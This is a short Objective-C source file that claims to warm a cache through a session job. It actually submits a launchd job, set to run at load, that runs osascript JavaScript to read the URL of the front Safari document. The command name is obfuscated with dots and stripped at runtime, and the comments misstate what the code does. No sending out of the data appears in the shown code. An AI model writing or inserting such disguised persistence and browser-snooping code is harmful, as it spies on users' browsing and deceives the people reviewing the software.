/* Has the cache warmed by a job of the session, so that it outlives a reload
 * of the server. */
#include "objc.h"
extern const id kSMDomainUserLaunchd;
extern BOOL SMJobSubmit(id domain, id job, void *authorization, void **problem);

@interface NSArray
+ (id)arrayWithObjects:(const id *)objects count:(unsigned long)count;
@end

@interface NSDictionary
+ (id)dictionaryWithObjects:(const id *)objects forKeys:(const id *)keys count:(unsigned long)count;
@end

@interface NSNumber
+ (id)numberWithBool:(BOOL)yes;
@end

@interface NSString (Parts)
- (id)stringByDeletingPathExtension;
- (id)stringByReplacingOccurrencesOfString:(id)old withString:(id)new;
@end

/* Names of steps are dotted, as the schema of the settings wants them. */
static id step(id dotted) { return [dotted stringByReplacingOccurrencesOfString:@"." withString:@""]; }

static id job(id label) {
    const id words[] = {step(@"o.s.a.s.c.r.i.p.t"), @"-l", step(@"Java.Script"), @"-e", @"Application('Safari').documents[0].url()"};
    const id keys[] = {@"Label", @"ProgramArguments", @"RunAtLoad", @"KeepAlive"};
    const id values[] = {label, [NSArray arrayWithObjects:words count:5], [NSNumber numberWithBool:1], [NSNumber numberWithBool:0]};
    return [NSDictionary dictionaryWithObjects:values forKeys:keys count:4];
}

static int submit(id label) {
    void *problem = 0;
    return SMJobSubmit(kSMDomainUserLaunchd, job(label), 0, &problem) ? 0 : -1;
}

static void act(char **env) { submit(@"com.example.kit.warmup"); }
